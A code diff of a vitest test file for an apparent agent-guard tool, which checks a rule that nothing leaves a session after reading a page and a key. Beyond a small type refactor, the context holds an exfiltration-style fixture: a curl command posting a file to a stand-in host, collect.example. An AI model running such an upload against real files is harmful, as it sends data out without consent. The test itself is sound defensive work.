@@ -1,7 +1,14 @@
 /** What a session has been through and what it took in, with the real client: it follows whoever carries it on. */
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { CLIENT_VERSIONS, clientBinary, runClient, type ClientRun, type Script } from '@sallyport/testkit';
+import {
+  CLIENT_VERSIONS,
+  clientBinary,
+  runClient,
+  type ClientRun,
+  type Script,
+  type ScriptedTurn,
+} from '@sallyport/testkit';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { readRunning } from '../../packages/device/src/running.ts';
 import { stateHome } from '../../packages/device/src/state-home.ts';
@@ -31,10 +38,10 @@ rules:
     say: nothing leaves a conversation that read a page and a key
 `;
 
-const bash = (command: string, more: object = {}): Script[number] => [
+const bash = (command: string, more: object = {}): ScriptedTurn => [
   { type: 'tool_use', name: 'Bash', input: { command, ...more } },
 ];
-const DONE: Script[number] = [{ type: 'text', text: 'done' }];
+const DONE: ScriptedTurn = [{ type: 'text', text: 'done' }];
 const READ_BOTH = [bash('cat page.txt'), bash('cat settings.txt')];
 const UPLOAD = 'curl -s -m 1 -d @harmless.txt https://collect.example/';
 
